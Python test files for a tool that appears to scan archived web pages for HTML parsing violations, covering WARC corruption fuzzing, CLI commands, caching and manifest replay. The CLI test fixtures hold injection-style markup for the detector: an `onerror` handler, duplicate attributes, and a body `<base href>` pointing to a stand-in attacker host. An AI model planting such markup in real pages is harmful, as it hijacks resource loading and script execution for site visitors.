The fuzz harness's ``warc`` oracle probes the reader with deliberately
corrupted archives.  These tests pin the contract those probes rely on:
any corruption of a well-formed gzip WARC either still yields records or
raises :class:`WARCFormatError` — never a bare ``gzip``/``zlib``/``struct``
exception, and never a hang.
"""
from __future__ import annotations

import io
import random

import pytest

from repro.warc import (
    WARCFormatError,
    WARCRecord,
    WARCWriter,
    iter_records,
    read_record_at,
)


def build_archive(records: int = 3) -> bytes:
    stream = io.BytesIO()
    writer = WARCWriter(stream)
    for index in range(records):
        writer.write_record(
            WARCRecord.response(
                f"http://example.com/p{index}",
                b"<html>" + bytes([65 + index]) * 40 + b"</html>",
                "2015-03-20T10:00:00Z",
            )
        )
    return stream.getvalue()


def drain(data: bytes) -> int:
    return sum(1 for _ in iter_records(io.BytesIO(data)))


class TestTypedCorruptionErrors:
    def test_truncated_member_raises_warc_format_error(self):
        data = build_archive()
        with pytest.raises(WARCFormatError):
            drain(data[: len(data) // 2])

    def test_truncated_final_trailer_raises_warc_format_error(self):
        data = build_archive()
        with pytest.raises(WARCFormatError):
            drain(data[:-4])  # cuts into the last member's CRC/ISIZE trailer

    def test_bit_flipped_crc_raises_warc_format_error(self):
        data = bytearray(build_archive(1))
        data[-5] ^= 0xFF  # inside the CRC32 trailer of the only member
        with pytest.raises(WARCFormatError):
            drain(bytes(data))

    def test_garbage_after_gzip_magic_raises_warc_format_error(self):
        with pytest.raises(WARCFormatError):
            drain(b"\x1f\x8b" + b"\x00" * 32)

    def test_random_access_corruption_raises_warc_format_error(self, tmp_path):
        stream = io.BytesIO()
        writer = WARCWriter(stream)
        offset, length = writer.write_record(
            WARCRecord.response(
                "http://example.com/", b"<html>x</html>", "2015-03-20T10:00:00Z"
            )
        )
        data = bytearray(stream.getvalue())
        data[offset + length // 2] ^= 0x55
        path = tmp_path / "corrupt.warc.gz"
        path.write_bytes(bytes(data))
        with pytest.raises(WARCFormatError):
            read_record_at(path, offset, length)


class TestSeededBitFlipSweep:
    def test_bit_flips_yield_records_or_typed_error(self):
        # Seeded sweep: every single-byte corruption must resolve to
        # either a (possibly shorter) record stream or WARCFormatError.
        base = build_archive()
        rng = random.Random(20260805)
        for _ in range(200):
            data = bytearray(base)
            position = rng.randrange(len(data))
            data[position] ^= 1 << rng.randrange(8)
            try:
                count = drain(bytes(data))
            except WARCFormatError:
                continue
            assert 0 <= count <= 3

    def test_truncation_sweep_never_leaks_raw_gzip_errors(self):
        base = build_archive()
        rng = random.Random(97)
        for _ in range(60):
            cut = rng.randrange(1, len(base))
            try:
                drain(base[:cut])
            except WARCFormatError:
                continue
