"""Study driver tests: caching, determinism, ground-truth file."""
from __future__ import annotations

import json

from repro.study import StudyConfig, build_archive, run_study


class TestStudyConfig:
    def test_key_distinct(self):
        a = StudyConfig(num_domains=10, seed=1)
        b = StudyConfig(num_domains=10, seed=2)
        assert a.key() != b.key()

    def test_scaled_respects_env(self, monkeypatch):
        monkeypatch.setenv("REPRO_SCALE", "2")
        assert StudyConfig.scaled().num_domains == 300
        monkeypatch.setenv("REPRO_SCALE", "bogus")
        assert StudyConfig.scaled().num_domains == 150


class TestCaching:
    def test_archive_reused(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        first = build_archive(config, tmp_path)
        marker = first / "collinfo.json"
        stamp = marker.stat().st_mtime_ns
        second = build_archive(config, tmp_path)
        assert second == first
        assert marker.stat().st_mtime_ns == stamp

    def test_results_cached_and_reloadable(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        study = run_study(config, cache_dir=tmp_path)
        first = study.figure9().fractions()
        study.close()
        again = run_study(config, cache_dir=tmp_path)
        assert again.figure9().fractions() == first
        again.close()

    def test_ground_truth_available(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        study = run_study(config, cache_dir=tmp_path)
        truth = study.ground_truth()
        assert truth["num_domains"] == 40
        assert "active" in truth
        study.close()


class TestDeterminism:
    def test_same_seed_same_results(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        a = run_study(config, cache_dir=tmp_path / "a")
        b = run_study(config, cache_dir=tmp_path / "b")
        assert a.figure9().fractions() == b.figure9().fractions()
        assert a.figure8().distribution == b.figure8().distribution
        a.close()
        b.close()
