"""Study driver tests: caching, determinism, ground-truth file."""
from __future__ import annotations

import json

from repro.study import StudyConfig, build_archive, run_study


class TestStudyConfig:
    def test_key_distinct(self):
        a = StudyConfig(num_domains=10, seed=1)
        b = StudyConfig(num_domains=10, seed=2)
        assert a.key() != b.key()

    def test_key_backward_compatible(self):
        """New knobs left unset must not change legacy cache keys."""
        assert StudyConfig(num_domains=10, seed=1).key() == "d10-p6-s1"
        assert (
            StudyConfig(num_domains=10, seed=1, years=(2021, 2022),
                        overlap_fraction=0.5).key()
            == "d10-p6-s1-y2021_2022-o0.5"
        )

    def test_scaled_respects_env(self, monkeypatch):
        monkeypatch.setenv("REPRO_SCALE", "2")
        assert StudyConfig.scaled().num_domains == 300
        monkeypatch.setenv("REPRO_SCALE", "bogus")
        assert StudyConfig.scaled().num_domains == 150


class TestCaching:
    def test_archive_reused(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        first = build_archive(config, tmp_path)
        marker = first / "collinfo.json"
        stamp = marker.stat().st_mtime_ns
        second = build_archive(config, tmp_path)
        assert second == first
        assert marker.stat().st_mtime_ns == stamp

    def test_results_cached_and_reloadable(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        study = run_study(config, cache_dir=tmp_path)
        first = study.figure9().fractions()
        study.close()
        again = run_study(config, cache_dir=tmp_path)
        assert again.figure9().fractions() == first
        again.close()

    def test_ground_truth_available(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        study = run_study(config, cache_dir=tmp_path)
        truth = study.ground_truth()
        assert truth["num_domains"] == 40
        assert "active" in truth
        study.close()


class TestIncrementalStudy:
    def test_incremental_cached_separately_and_matches_full(self, tmp_path):
        """An incremental run lands under its own cache key, reports dedup
        progress, and its analyses match the full path's exactly."""
        config = StudyConfig(num_domains=12, max_pages=2, seed=13,
                             years=(2021, 2022), overlap_fraction=0.8)
        full = run_study(config, cache_dir=tmp_path)
        progress_calls = []
        incremental = run_study(
            config, cache_dir=tmp_path, incremental=True,
            progress_dedup=lambda snapshot, done, total, counters: (
                progress_calls.append(
                    (snapshot, done, total, counters.as_dict())
                )
            ),
        )
        assert incremental.db_path != full.db_path
        assert incremental.db_path.name.endswith("-inc.sqlite")
        assert incremental.manifest_path.exists()
        # one callback per domain per snapshot, counters cumulative
        assert len(progress_calls) == 2 * 12
        assert {call[0] for call in progress_calls} == {
            "CC-MAIN-2021-04", "CC-MAIN-2022-05",
        }
        assert all(0 < done <= total for _, done, total, _ in progress_calls)
        assert progress_calls[-1][3]["carried"] > 0
        assert incremental.figure9().fractions() == full.figure9().fractions()
        assert incremental.figure8().distribution == full.figure8().distribution
        full.close()
        incremental.close()


class TestDeterminism:
    def test_same_seed_same_results(self, tmp_path):
        config = StudyConfig(num_domains=40, max_pages=2, seed=13)
        a = run_study(config, cache_dir=tmp_path / "a")
        b = run_study(config, cache_dir=tmp_path / "b")
        assert a.figure9().fractions() == b.figure9().fractions()
        assert a.figure8().distribution == b.figure8().distribution
        a.close()
        b.close()
