"""CLI tests (check / fix subcommands; run/report share the study path)."""
from __future__ import annotations

import pytest

from repro.cli import main

DIRTY = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>"
    '<img src="a.png"onerror="x()"></body></html>'
)
CLEAN = (
    "<!DOCTYPE html><html><head><title>t</title></head>"
    "<body><p>x</p></body></html>"
)


class TestCheckCommand:
    def test_dirty_file_reports_and_exits_1(self, tmp_path, capsys):
        path = tmp_path / "dirty.html"
        path.write_text(DIRTY)
        assert main(["check", str(path)]) == 1
        out = capsys.readouterr().out
        assert "FB2" in out

    def test_clean_file_exits_0(self, tmp_path, capsys):
        path = tmp_path / "clean.html"
        path.write_text(CLEAN)
        assert main(["check", str(path)]) == 0
        assert "no violations" in capsys.readouterr().out


class TestFixCommand:
    def test_fix_outputs_repaired_html(self, tmp_path, capsys):
        path = tmp_path / "dirty.html"
        path.write_text(DIRTY)
        assert main(["fix", str(path)]) == 0
        captured = capsys.readouterr()
        assert 'src="a.png" onerror="x()"' in captured.out
        assert "repaired 1 finding" in captured.err


class TestParser:
    def test_requires_subcommand(self):
        with pytest.raises(SystemExit):
            main([])

    def test_unknown_subcommand(self):
        with pytest.raises(SystemExit):
            main(["frobnicate"])


@pytest.mark.slow
class TestStudyCommands:
    def test_run_and_report(self, tmp_path, capsys, monkeypatch):
        monkeypatch.setenv("REPRO_CACHE", str(tmp_path))
        assert main(["run", "--domains", "40", "--pages", "2"]) == 0
        out = capsys.readouterr().out
        assert "Table 2" in out
        assert main(["report", "--domains", "40", "--pages", "2"]) == 0
        out = capsys.readouterr().out
        for piece in ("Figure 8", "Figure 9", "Figure 10",
                      "Section 4.4", "Section 4.5", "Section 4.2"):
            assert piece in out

    def test_dynamic_command(self, capsys):
        assert main(["dynamic", "--domains", "40", "--fragments", "5"]) == 0
        out = capsys.readouterr().out
        assert "Dynamic-content pre-study" in out
        assert "Generalization" in out
