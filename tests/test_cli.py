"""CLI tests (check / fix / lint subcommands; run/report share the study path)."""
from __future__ import annotations

import json

import pytest

from repro.cli import main
from repro.core import Checker

DIRTY = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>"
    '<img src="a.png"onerror="x()"></body></html>'
)
CLEAN = (
    "<!DOCTYPE html><html><head><title>t</title></head>"
    "<body><p>x</p></body></html>"
)
#: several violation families at once: FB2 (no space between attributes),
#: FB1 (slash separator), DM3 (duplicate attribute), DM2_1 (base in body)
MULTI_DIRTY = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>"
    '<img src="a.png"onerror="x()">'
    '<img/src="b.png"/alt="b">'
    '<p id="a" id="b">dup</p>'
    '<base href="https://evil.example/">'
    "</body></html>"
)


class TestCheckCommand:
    def test_dirty_file_reports_and_exits_1(self, tmp_path, capsys):
        path = tmp_path / "dirty.html"
        path.write_text(DIRTY)
        assert main(["check", str(path)]) == 1
        out = capsys.readouterr().out
        assert "FB2" in out

    def test_clean_file_exits_0(self, tmp_path, capsys):
        path = tmp_path / "clean.html"
        path.write_text(CLEAN)
        assert main(["check", str(path)]) == 0
        assert "no violations" in capsys.readouterr().out

    def test_non_utf8_file_reports_typed_failure_and_exits_2(
        self, tmp_path, capsys
    ):
        path = tmp_path / "legacy.html"
        path.write_bytes("<p>äöü".encode("latin-1"))
        assert main(["check", str(path)]) == 2
        err = capsys.readouterr().err
        assert "not UTF-8-decodable" in err

    def test_non_utf8_failure_mentions_declared_encoding(
        self, tmp_path, capsys
    ):
        path = tmp_path / "declared.html"
        path.write_bytes(
            b'<meta charset="shift_jis"><p>\x83e\x83X\x83g'
        )
        assert main(["check", str(path)]) == 2
        assert "shift_jis" in capsys.readouterr().err

    def test_multi_violation_document_end_to_end(self, tmp_path, capsys):
        path = tmp_path / "multi.html"
        path.write_text(MULTI_DIRTY)
        assert main(["check", str(path)]) == 1
        out = capsys.readouterr().out
        for violation_id in ("FB1", "FB2", "DM3", "DM2_1"):
            assert violation_id in out, out
        # findings carry source offsets and evidence snippets
        assert "@" in out
        assert "onerror" in out
        # the summary counts both findings and distinct violation types
        assert "violation type(s)" in out


class TestFixCommand:
    def test_fix_outputs_repaired_html(self, tmp_path, capsys):
        path = tmp_path / "dirty.html"
        path.write_text(DIRTY)
        assert main(["fix", str(path)]) == 0
        captured = capsys.readouterr()
        assert 'src="a.png" onerror="x()"' in captured.out
        assert "repaired 1 finding" in captured.err

    def test_fix_repairs_every_auto_fixable_violation(self, tmp_path, capsys):
        path = tmp_path / "multi.html"
        path.write_text(MULTI_DIRTY)
        assert main(["fix", str(path)]) == 0
        captured = capsys.readouterr()
        fixed_html = captured.out
        # re-check the repaired output: the auto-fixable families are gone
        report = Checker().check_html(fixed_html)
        for violation_id in ("FB1", "FB2", "DM3", "DM2_1"):
            assert not report.has(violation_id), (violation_id, fixed_html)
        assert "repaired" in captured.err

    def test_fix_clean_file_is_identity(self, tmp_path, capsys):
        path = tmp_path / "clean.html"
        path.write_text(CLEAN)
        assert main(["fix", str(path)]) == 0
        captured = capsys.readouterr()
        assert captured.out.rstrip("\n") == CLEAN
        assert "repaired 0 finding" in captured.err


class TestLintCommand:
    def test_lint_repo_is_clean_and_exits_0(self, capsys):
        assert main(["lint"]) == 0
        out = capsys.readouterr().out
        assert "clean" in out
        assert "registry-consistency" in out

    def test_lint_json_format(self, capsys):
        assert main(["lint", "--format", "json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["tool"] == "repro.staticcheck"
        assert payload["counts"]["error"] == 0
        assert payload["counts"]["warning"] == 0

    def test_lint_writes_baseline(self, tmp_path, capsys):
        baseline = tmp_path / "baseline.txt"
        assert main(["lint", "--baseline", str(baseline)]) == 0
        assert baseline.exists()
        assert "repro.staticcheck baseline" in baseline.read_text()

    def test_lint_stats_table(self, capsys):
        assert main(["lint", "--stats"]) == 0
        out = capsys.readouterr().out
        assert "footprint" in out
        assert "rules_analyzed=" in out
        assert "total" in out

    def test_lint_json_carries_stats(self, capsys):
        assert main(["lint", "--format", "json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        stats = {entry["pass"]: entry for entry in payload["stats"]}
        assert stats["footprint"]["metrics"]["rules_analyzed"] >= 20

    def test_lint_check_baseline_round_trips(self, tmp_path, capsys):
        baseline = tmp_path / "baseline.txt"
        assert main(["lint", "--baseline", str(baseline)]) == 0
        capsys.readouterr()
        assert main(["lint", "--check-baseline", str(baseline)]) == 0

    def test_lint_check_baseline_flags_stale_entry(self, tmp_path, capsys):
        baseline = tmp_path / "baseline.txt"
        assert main(["lint", "--baseline", str(baseline)]) == 0
        capsys.readouterr()
        with baseline.open("a") as handle:
            handle.write("  core/rules/gone.py:1:0: error [footprint] x\n")
        assert main(["lint", "--check-baseline", str(baseline)]) == 1
        out = capsys.readouterr().out
        assert "stale baseline entry no longer fires" in out
        assert "regenerate baseline" in out

    def test_lint_check_baseline_missing_file_is_usage_error(self, capsys):
        assert main(["lint", "--check-baseline", "/no/such/file.txt"]) == 2

    def test_lint_fail_on_warning_fixture(self, tmp_path, capsys):
        target = tmp_path / "pipeline"
        target.mkdir()
        (target / "swallow.py").write_text(
            "def run(stage):\n"
            "    try:\n"
            "        stage()\n"
            "    except Exception:\n"
            "        return None\n"
        )
        # a blanket-swallow handler is warning severity: error gate passes,
        # warning gate fails
        assert main(["lint", str(tmp_path), "--fail-on", "error"]) == 0
        capsys.readouterr()
        assert main(["lint", str(tmp_path), "--fail-on", "warning"]) == 1


class TestBenchCommand:
    def test_quick_writes_valid_snapshot(self, tmp_path, capsys):
        out_path = tmp_path / "BENCH_test.json"
        assert main(["bench", "--quick", "--no-rules",
                     "--label", "cli-test", "--output", str(out_path)]) == 0
        table = capsys.readouterr().out
        assert "tokenizer_clean" in table and "pages/s" in table
        snapshot = json.loads(out_path.read_text())
        assert snapshot["schema"] == "repro-bench/1"
        assert snapshot["label"] == "cli-test"
        assert snapshot["rules"] == {}
        case = snapshot["cases"]["tokenizer_dirty"]
        assert case["chars"] > 0 and case["tokens"] > 0
        assert case["best_seconds"] > 0
        assert case["chars_per_second"] == pytest.approx(
            case["chars"] / case["best_seconds"]
        )

    def test_rule_costs_keyed_by_rule_id(self, tmp_path, capsys):
        out_path = tmp_path / "BENCH_rules.json"
        assert main(["bench", "--quick", "--output", str(out_path)]) == 0
        snapshot = json.loads(out_path.read_text())
        rule_ids = {rule.id for rule in Checker().rules}
        assert set(snapshot["rules"]) == rule_ids
        assert all(r["best_seconds"] > 0 for r in snapshot["rules"].values())

    def test_pipeline_case_carries_per_stage_fields(self, tmp_path, capsys):
        """The repro-bench/1 snapshot's miniature end-to-end case must
        attribute time to every pipeline stage (the CI smoke asserts the
        same shape)."""
        out_path = tmp_path / "BENCH_pipeline_smoke.json"
        assert main(["bench", "--quick", "--no-rules",
                     "--output", str(out_path)]) == 0
        assert "pipeline e2e" in capsys.readouterr().out
        snapshot = json.loads(out_path.read_text())
        pipeline = snapshot["pipeline"]
        assert set(pipeline["stages"]) == {"index", "fetch", "check", "store"}
        assert pipeline["pages"] > 0
        assert pipeline["domains"] > 0
        assert pipeline["best_seconds"] > 0
        assert pipeline["pages_per_second"] == pytest.approx(
            pipeline["pages"] / pipeline["best_seconds"]
        )
        assert sum(pipeline["stages"].values()) == pytest.approx(
            pipeline["best_seconds"]
        )

    def test_no_pipeline_flag_omits_the_case(self, tmp_path, capsys):
        out_path = tmp_path / "BENCH_no_pipeline.json"
        assert main(["bench", "--quick", "--no-rules", "--no-pipeline",
                     "--output", str(out_path)]) == 0
        snapshot = json.loads(out_path.read_text())
        assert "pipeline" not in snapshot


class TestParser:
    def test_requires_subcommand(self):
        with pytest.raises(SystemExit):
            main([])

    def test_unknown_subcommand(self):
        with pytest.raises(SystemExit):
            main(["frobnicate"])


@pytest.mark.slow
class TestStudyCommands:
    def test_run_and_report(self, tmp_path, capsys, monkeypatch):
        monkeypatch.setenv("REPRO_CACHE", str(tmp_path))
        assert main(["run", "--domains", "40", "--pages", "2"]) == 0
        out = capsys.readouterr().out
        assert "Table 2" in out
        assert main(["report", "--domains", "40", "--pages", "2"]) == 0
        out = capsys.readouterr().out
        for piece in ("Figure 8", "Figure 9", "Figure 10",
                      "Section 4.4", "Section 4.5", "Section 4.2"):
            assert piece in out

    def test_dynamic_command(self, capsys):
        assert main(["dynamic", "--domains", "40", "--fragments", "5"]) == 0
        out = capsys.readouterr().out
        assert "Dynamic-content pre-study" in out
        assert "Generalization" in out

    def test_incremental_run_and_replay(self, tmp_path, capsys, monkeypatch):
        """End-to-end through the CLI: an incremental run writes a
        manifest, `repro-study replay` re-executes and verifies it."""
        monkeypatch.setenv("REPRO_CACHE", str(tmp_path))
        assert main([
            "run", "--domains", "6", "--pages", "2", "--incremental",
            "--years", "2021,2022", "--overlap", "0.8",
        ]) == 0
        out = capsys.readouterr().out
        assert "run manifest:" in out
        manifest_path = next(tmp_path.glob("results-*-inc.manifest.json"))
        manifest = json.loads(manifest_path.read_text())
        assert manifest["run"]["incremental"] is True
        assert manifest["dedup_counters"]["carried"] > 0

        assert main(["replay", str(manifest_path)]) == 0
        out = capsys.readouterr().out
        assert "replay OK" in out

        # a tampered result digest must fail the replay with exit 1
        manifest["results"]["aggregate_sha256"] = "f" * 64
        tampered = tmp_path / "tampered.manifest.json"
        tampered.write_text(json.dumps(manifest))
        assert main(["replay", str(tampered)]) == 1
        assert "MISMATCH" in capsys.readouterr().err

    def test_replay_malformed_manifest_is_usage_error(self, tmp_path, capsys):
        path = tmp_path / "bad.json"
        path.write_text("{}")
        assert main(["replay", str(path)]) == 2
        assert "replay:" in capsys.readouterr().err
