"""Run-manifest schema, tamper detection and replay tests."""
from __future__ import annotations

import json

import pytest

from repro.incremental import (
    DedupConfig,
    MANIFEST_SCHEMA,
    ManifestFormatError,
    execute_study_run,
    load_manifest,
    registry_hash,
    replay_manifest,
    write_manifest,
)

from .test_dedup_runner import DIRTY_PAGE, build_archive


@pytest.fixture(scope="module")
def recorded_run(tmp_path_factory):
    """A small incremental run with its manifest written to disk."""
    base = tmp_path_factory.mktemp("manifest-run")
    root = base / "archive"
    build_archive(root, {
        2021: [
            ("https://site.example/a", DIRTY_PAGE),
            ("https://site.example/b", DIRTY_PAGE + b"<p>unique b</p>"),
        ],
        2022: [
            ("https://site.example/a", DIRTY_PAGE),
            ("https://site.example/b", DIRTY_PAGE + b"<p>changed b</p>"),
        ],
    })
    manifest_path = base / "run.manifest.json"
    manifest, _stats = execute_study_run(
        archive_root=root,
        db_path=base / "results.sqlite",
        domains=[("site.example", 1.0)],
        max_pages=4,
        seed=5,
        dedup=DedupConfig(),
        manifest_path=manifest_path,
    )
    return manifest, manifest_path


class TestManifestShape:
    def test_written_manifest_loads(self, recorded_run):
        manifest, path = recorded_run
        loaded = load_manifest(path)
        assert loaded == manifest
        assert loaded["schema"] == MANIFEST_SCHEMA
        assert loaded["registry_hash"] == registry_hash()
        assert loaded["run"]["seed"] == 5
        assert loaded["run"]["incremental"] is True
        assert loaded["run"]["index_fresh"] is True
        assert loaded["dedup_counters"]["carried"] == 1
        assert set(loaded["archive"]["snapshots"]) == set(
            loaded["run"]["snapshot_ids"]
        )
        assert loaded["timings"]["total"] > 0

    def test_non_incremental_run_has_null_dedup(self, recorded_run, tmp_path):
        _, path = recorded_run
        manifest, _ = execute_study_run(
            archive_root=load_manifest(path)["archive"]["root"],
            db_path=tmp_path / "full.sqlite",
            domains=[("site.example", 1.0)],
            max_pages=4,
            seed=5,
        )
        assert manifest["run"]["incremental"] is False
        assert manifest["run"]["dedup"] is None
        assert manifest["dedup_counters"] is None
        # without a content index the run is trivially replayable in full
        assert manifest["run"]["index_fresh"] is True

    def test_rejects_wrong_schema(self, recorded_run, tmp_path):
        manifest, _ = recorded_run
        bad = dict(manifest, schema="repro-manifest/999")
        path = tmp_path / "bad.json"
        write_manifest(bad, path)
        with pytest.raises(ManifestFormatError, match="schema"):
            load_manifest(path)

    def test_rejects_missing_keys(self, recorded_run, tmp_path):
        manifest, _ = recorded_run
        bad = {k: v for k, v in manifest.items() if k != "archive"}
        path = tmp_path / "bad.json"
        write_manifest(bad, path)
        with pytest.raises(ManifestFormatError, match="archive"):
            load_manifest(path)

    def test_rejects_malformed_digest(self, recorded_run, tmp_path):
        manifest, _ = recorded_run
        bad = json.loads(json.dumps(manifest))
        bad["results"]["aggregate_sha256"] = "not-a-digest"
        path = tmp_path / "bad.json"
        write_manifest(bad, path)
        with pytest.raises(ManifestFormatError, match="aggregate_sha256"):
            load_manifest(path)

    def test_rejects_unreadable_file(self, tmp_path):
        path = tmp_path / "nope.json"
        with pytest.raises(ManifestFormatError):
            load_manifest(path)
        path.write_text("[1, 2]")
        with pytest.raises(ManifestFormatError, match="JSON object"):
            load_manifest(path)


class TestReplay:
    def test_replay_ok(self, recorded_run):
        _, path = recorded_run
        report = replay_manifest(path)
        assert report.ok, report.mismatches
        assert report.compared == ["aggregate", "full"]

    def test_replay_with_worker_override(self, recorded_run):
        """Bit-identity across worker counts, proven through replay."""
        _, path = recorded_run
        report = replay_manifest(path, workers=2)
        assert report.ok, report.mismatches
        assert "full" in report.compared

    def test_replay_detects_tampered_archive(self, recorded_run, tmp_path):
        manifest, _ = recorded_run
        tampered = json.loads(json.dumps(manifest))
        snapshot_id = tampered["run"]["snapshot_ids"][0]
        digests = tampered["archive"]["snapshots"][snapshot_id]
        digests["cdx_sha256"] = "0" * 64
        report = replay_manifest(tampered)
        assert not report.ok
        assert any("CDX index digest" in m for m in report.mismatches)
        # archive verification fails fast: no re-execution happened
        assert report.replayed == {}

    def test_replay_detects_result_drift(self, recorded_run):
        manifest, _ = recorded_run
        drifted = json.loads(json.dumps(manifest))
        drifted["results"]["aggregate_sha256"] = "f" * 64
        report = replay_manifest(drifted)
        assert not report.ok
        assert any("aggregate_sha256" in m for m in report.mismatches)

    def test_replay_refuses_different_registry(self, recorded_run):
        manifest, _ = recorded_run
        foreign = json.loads(json.dumps(manifest))
        foreign["registry_hash"] = "e" * 64
        report = replay_manifest(foreign)
        assert not report.ok
        assert any("registry" in m for m in report.mismatches)
