"""Content index tests: staging discipline, persistence, staleness."""
from __future__ import annotations

import sqlite3

import pytest

from repro.incremental import (
    ContentIndex,
    ContentIndexError,
    ContentIndexStaleError,
    IndexEntry,
)
from repro.pipeline import SchemaVersionError

META = {"registry_hash": "r1", "measure_mitigations": "1", "schema": "t/1"}


def entry(key: str, *, snapshot: str = "CC-A", url: str = "https://a/",
          digest: str = "D", simhash: int | None = None) -> IndexEntry:
    return IndexEntry(
        snapshot=snapshot, url=url, cdx_digest=digest, content_key=key,
        simhash=simhash, utf8=True, checked=True, declared_encoding="utf-8",
        findings=(("DM1", 2), ("FB2", 1)), mitigation=(1, 0, 0, 1),
        features=(1, 0),
    )


class TestStagingDiscipline:
    def test_staged_entries_invisible_until_commit(self):
        with ContentIndex() as index:
            assert index.stage(entry("k1"))
            assert index.lookup_key("k1") is None
            assert index.lookup_digest("D") is None
            assert index.entry_count() == 0
            assert index.commit_snapshot() == 1
            hit = index.lookup_key("k1")
            assert hit is not None
            assert hit.findings == (("DM1", 2), ("FB2", 1))
            assert hit.mitigation == (1, 0, 0, 1)
            assert hit.provenance == "CC-A https://a/"

    def test_duplicate_content_key_first_wins(self):
        with ContentIndex() as index:
            assert index.stage(entry("k1", url="https://first/"))
            assert not index.stage(entry("k1", url="https://second/"))
            index.commit_snapshot()
            # committed entries also block re-staging in later snapshots
            assert not index.stage(entry("k1", url="https://third/"))
            assert index.lookup_key("k1").url == "https://first/"

    def test_digest_lookup_earliest_row_wins(self):
        with ContentIndex() as index:
            index.stage(entry("k1", digest="SAME", url="https://one/"))
            index.stage(entry("k2", digest="SAME", url="https://two/"))
            index.commit_snapshot()
            assert index.lookup_digest("SAME").url == "https://one/"

    def test_near_lookup_only_sees_committed(self):
        with ContentIndex() as index:
            index.stage(entry("k1", simhash=0b1111))
            assert index.lookup_near(0b1111, 2) is None
            index.commit_snapshot()
            assert index.lookup_near(0b1011, 2) is not None
            assert index.lookup_near(0b1111 << 32, 2) is None


class TestPersistence:
    def test_reopen_sees_committed_entries(self, tmp_path):
        path = tmp_path / "index.sqlite"
        with ContentIndex(path, meta=META) as index:
            index.stage(entry("k1", simhash=7))
            index.commit_snapshot()
        with ContentIndex(path, meta=META) as index:
            assert index.entry_count() == 1
            assert index.lookup_key("k1") is not None
            # sketches are reloaded for the near tier too
            assert index.lookup_near(7, 0) is not None

    def test_readonly_open(self, tmp_path):
        path = tmp_path / "index.sqlite"
        with ContentIndex(path, meta=META) as index:
            index.stage(entry("k1"))
            index.commit_snapshot()
        with ContentIndex(path, readonly=True) as reader:
            assert reader.lookup_key("k1") is not None
            with pytest.raises(sqlite3.OperationalError):
                reader.conn.execute("DELETE FROM entries")


class TestStaleness:
    def test_mismatched_meta_refused_with_keys(self, tmp_path):
        path = tmp_path / "index.sqlite"
        ContentIndex(path, meta=META).close()
        changed = dict(META, registry_hash="r2")
        with pytest.raises(ContentIndexStaleError, match="registry_hash"):
            ContentIndex(path, meta=changed)

    def test_reset_wipes_and_restamps(self, tmp_path):
        path = tmp_path / "index.sqlite"
        with ContentIndex(path, meta=META) as index:
            index.stage(entry("k1"))
            index.commit_snapshot()
        changed = dict(META, registry_hash="r2")
        with ContentIndex(path, meta=changed, on_stale="reset") as index:
            assert index.entry_count() == 0
        # the new stamp sticks: reopening under it is clean
        with ContentIndex(path, meta=changed) as index:
            assert index.entry_count() == 0

    def test_newer_schema_generation_refused(self, tmp_path):
        path = tmp_path / "index.sqlite"
        ContentIndex(path, meta=META).close()
        conn = sqlite3.connect(path)
        conn.execute("PRAGMA user_version = 99")
        conn.commit()
        conn.close()
        with pytest.raises(SchemaVersionError):
            ContentIndex(path, meta=META)
        with pytest.raises(SchemaVersionError):
            ContentIndex(path, readonly=True)

    def test_corrupt_file_refused_or_rebuilt(self, tmp_path):
        path = tmp_path / "index.sqlite"
        path.write_bytes(b"this is not a sqlite database, not even close")
        with pytest.raises(ContentIndexError):
            ContentIndex(path, meta=META)
        with ContentIndex(path, meta=META, on_stale="reset") as index:
            assert index.entry_count() == 0

    def test_invalid_on_stale_rejected(self):
        with pytest.raises(ValueError):
            ContentIndex(on_stale="ignore")
