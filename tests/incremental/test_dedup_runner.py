"""Dedup ingest parity and edge-case tests (DESIGN.md §3.13).

The hard claims: the incremental path's aggregate tables are
byte-identical to the full pipeline's, and every worker count produces a
byte-identical database *including* the provenance column.
"""
from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from repro.commoncrawl import ArchiveBuilder, CorpusConfig, CorpusPlanner
from repro.commoncrawl.snapshot import _cdx_timestamp, _warc_date, snapshot_name
from repro.incremental import DedupConfig, execute_study_run, simhash64, hamming64
from repro.warc import CDXEntry, CDXWriter, WARCRecord, WARCWriter, surt

CLEAN_PAGE = (
    b'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
    b"<title>t</title></head><body><p>hello</p></body></html>"
)
DIRTY_PAGE = (
    b"<html><body><p>unclosed <b>nested <form><form>double form"
    b"</body></html>"
)


def build_archive(root: Path, snapshots: dict[int, list[tuple]]) -> None:
    """Hand-rolled archive: ``{year: [(url, payload[, content_type])]}``."""
    collinfo = []
    for year, pages in sorted(snapshots.items()):
        name = snapshot_name(year)
        warc_dir = root / "crawl-data" / name / "warc"
        warc_dir.mkdir(parents=True, exist_ok=True)
        (root / "cc-index").mkdir(parents=True, exist_ok=True)
        cdx = CDXWriter()
        part_rel = Path("crawl-data") / name / "warc" / "part-00000.warc.gz"
        with open(root / part_rel, "wb") as stream:
            writer = WARCWriter(stream)
            writer.write_record(WARCRecord.warcinfo(
                "part-00000.warc.gz", _warc_date(year, 0),
                {"software": "test/1.0", "isPartOf": name},
            ))
            for counter, page in enumerate(pages):
                url, payload = page[0], page[1]
                content_type = (
                    page[2] if len(page) > 2 else "text/html; charset=UTF-8"
                )
                date = _warc_date(year, counter)
                record = WARCRecord.response(
                    url, payload, date, content_type=content_type
                )
                offset, length = writer.write_record(record)
                cdx.add(CDXEntry(
                    urlkey=surt(url), timestamp=_cdx_timestamp(date), url=url,
                    mime="text/html", status=200,
                    digest=record.payload_digest, length=length,
                    offset=offset, filename=str(part_rel),
                ))
        cdx.write(root / "cc-index" / f"{name}.cdxj")
        collinfo.append({
            "id": name, "name": f"test crawl {year}", "year": year,
